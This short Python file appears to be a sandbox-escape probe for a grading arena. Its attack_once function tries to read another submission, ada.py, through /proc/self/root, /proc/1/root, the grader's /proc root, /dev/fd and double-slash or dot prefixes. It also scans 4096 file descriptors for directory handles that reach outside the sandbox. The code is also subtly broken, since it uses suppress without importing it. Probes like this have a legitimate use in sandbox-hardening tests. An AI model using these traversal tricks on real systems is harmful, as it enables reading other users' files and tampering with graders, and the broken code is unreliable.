"""Opens what it may not by other names: /proc/self/root, /dev/fd, dots and double slashes."""

import os


def attack_once():
    won = []
    target = "@arena@/submissions/ada.py"
    prefixes = (
        "/proc/self/root",
        "/proc/1/root",
        "/proc/self/cwd/..",
        "/proc/thread-self/root",
        "/proc/@grader@/root",
        "//",
        "/./..",
        "/dev/fd/0/..",
    )
    for prefix in prefixes:
        with suppress(OSError):
            with open(prefix + target) as file:
                won.append((prefix, len(file.read())))
    for fd in range(4096):
        with suppress(OSError):
            os.close(os.open("..", os.O_RDONLY, dir_fd=fd))
            won.append(("folder", fd))
    return won
